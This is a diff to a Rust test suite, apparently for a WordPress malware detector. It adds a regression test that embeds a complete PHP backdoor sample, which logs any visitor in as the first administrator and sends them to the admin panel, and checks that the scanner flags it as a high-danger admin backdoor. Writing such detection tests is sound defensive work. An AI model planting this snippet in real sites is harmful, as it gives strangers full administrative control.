@@ -100,6 +100,12 @@ fn a_visitor_logged_in_as_administrator() {
         "<?php require_once 'wp-load.php'; function sso_login($u) { if (check($u)) { wp_set_auth_cookie($u->ID); } }";
     assert!(found(sso).is_empty());
     assert!(found("<?php wp_set_auth_cookie($user_id, $remember);").is_empty());
+    // Regression: fresh125's `wp-blog-format.php` loads WordPress from the trimmed document
+    // root and logs its visitor in as the first administrator.
+    let trimmed = "<?php require(rtrim($_SERVER[\"DOCUMENT_ROOT\"], \"/\\\\\") . DIRECTORY_SEPARATOR . \"wp-blog-header.php\");\n\
+                   $u = get_users('role=administrator'); foreach ($u as $p) { $us = $p->user_login; break; } $us = get_user_by('login', $us);\n\
+                   if (user_can($us, 'administrator')) { wp_clear_auth_cookie(); wp_set_current_user($us->ID); wp_set_auth_cookie($us->ID); wp_safe_redirect(admin_url()); exit(); }";
+    assert_eq!(found(trimmed), [(Why::AdminBackdoor, Danger::High)]);
 }
 
 #[test]
